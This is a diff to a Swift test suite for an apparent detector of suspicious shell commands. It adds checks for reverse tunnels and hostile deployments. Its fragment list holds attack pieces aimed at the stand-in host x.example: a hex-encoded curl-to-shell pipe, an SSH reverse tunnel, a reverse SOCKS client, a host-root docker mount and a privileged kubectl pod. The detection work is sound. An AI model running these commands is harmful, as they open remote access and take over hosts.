@@ -24,6 +24,7 @@ struct CommandSignsTests {
         ("looksLikeMiner", MinerShape.judge), ("writesPersistence", PersistenceWrite.judge),
         ("reverseShell", ReverseShell.judge), ("runsFetchedCode", FetchedCode.judge),
         ("runsFromMemory", MemoryExecution.judge), ("sendsCredentials", CredentialSend.judge),
+        ("opensReverseTunnel", ReverseTunnel.judge), ("deploysTakeover", HostileDeployment.judge),
     ]
 
     private static let pieces: [String] = [
@@ -42,6 +43,8 @@ struct CommandSignsTests {
         "6375726c20687474703a2f2f782e6578616d706c652f617c7368", "printf", "rev", "openssl enc -d", "cp x", "-pool",
         "git clone https://x.example/r", "cd r", "./run.sh", "pip install https://x.example/p.tgz", "X=cu;", "Y=rl",
         "$X$Y", "${X}rl", "b''ash",
+        "ssh -N -R 8080:localhost:80 x.example", "client x.example:443 R:socks", "docker run -v /:/h alpine",
+        "kubectl run x --overrides {hostPID:true,privileged:true}",
     ]
 
     @Test("Every function about commands is put to the test")
